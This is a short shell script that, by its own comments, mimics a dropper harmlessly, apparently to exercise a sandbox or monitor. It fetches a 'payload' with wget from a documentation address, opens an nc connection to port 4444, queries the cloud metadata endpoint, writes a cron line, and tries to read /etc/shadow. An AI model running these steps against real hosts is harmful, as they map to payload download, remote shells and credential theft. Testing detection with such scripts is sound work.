#!/bin/sh
# A harmless script with the habits of a dropper: it looks around, tries to call home three ways, leaves files, starts a helper.
# 198.51.100.7 and 203.0.113.9 are documentation addresses (RFC 5737): nobody is there, and the sandbox could not reach them anyway.
echo "hello from $(id -un) on $(uname -sr)"
id
ls / >listing.txt
wget -q -T 2 -O payload http://198.51.100.7/x || echo "no payload today"
nc -w 2 203.0.113.9 4444 </dev/null || echo "no shell home either"
wget -q -T 2 -O - http://169.254.169.254/latest/meta-data/ || echo "no cloud identity here"
mkdir -p .cache
printf '* * * * * %s/.cache/agent\n' "$PWD" >.cache/cron
cp /bin/true .cache/agent && chmod 755 .cache/agent && .cache/agent
echo marker >/tmp/left-behind
cat /etc/shadow || echo "cannot read /etc/shadow"
sleep 30 &
echo "left a helper running as process $!"
exit 0
